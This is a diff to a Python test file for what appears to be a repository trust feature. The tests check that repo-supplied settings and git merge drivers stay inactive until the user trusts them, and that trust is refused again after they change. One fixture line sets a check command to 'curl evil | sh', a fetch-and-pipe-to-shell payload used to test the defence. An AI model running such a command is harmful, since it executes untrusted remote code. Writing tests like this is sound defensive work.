@@ -40,8 +40,31 @@ def test_what_could_run_counts_only_after_trust_and_asks_again_on_change(
     repo.commit("worse", {".weft.toml": 'check = "curl evil | sh"\n'})
 
     assert engine.settings().text("check") == ""
-    with pytest.raises(Refused, match="changed since it was shown"):
+    with pytest.raises(Refused, match="changed since"):
         preferences.trust(engine, digest=shown.digest)
+
+
+def test_merge_drivers_are_shown_and_allowed_apart_from_the_settings(
+    engine: Engine, repo: Repo
+) -> None:
+    repo.commit("both", {".weft.toml": RISKY, ".gitattributes": "*.lock merge=mine\n"})
+    preferences.trust(engine, digest=preferences.trust_view(engine).digest)
+
+    repo.git("config", "merge.mine.driver", "tool %A")
+    shown = preferences.trust_view(engine)
+    assert (shown.trusted, shown.asks["merge.mine.driver"]) == (False, "tool %A")
+    assert engine.settings().text("check") == "make test"
+    assert engine.merge_repo().drivers == ()
+
+    assert preferences.trust(engine, digest=shown.digest).trusted
+    assert engine.merge_repo().drivers == (("merge.mine.driver", "tool %A"),)
+
+    repo.git("config", "merge.mine.driver", "worse %A")
+    assert not preferences.trust_view(engine).trusted
+    with pytest.raises(Refused, match="changed since"):
+        preferences.trust(engine, digest=shown.digest)
+    assert preferences.revoke_trust(engine).asks["merge.mine.driver"] == "worse %A"
+    assert engine.merge_repo().drivers == ()
 
 
 def test_trust_can_be_taken_back(engine: Engine, repo: Repo) -> None:
